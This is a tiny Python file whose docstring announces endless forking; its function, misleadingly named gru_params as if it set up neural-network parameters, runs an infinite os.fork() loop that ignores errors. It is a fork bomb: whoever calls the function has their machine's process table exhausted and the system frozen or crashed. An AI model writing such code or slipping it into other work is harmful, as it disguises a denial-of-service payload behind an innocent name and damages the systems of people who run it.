"""Forks without end, and so do all its children, which take no refusal for an answer."""
import os


def gru_params(n_features, units):
    while True:
        try:
            os.fork()
        except OSError:
            continue
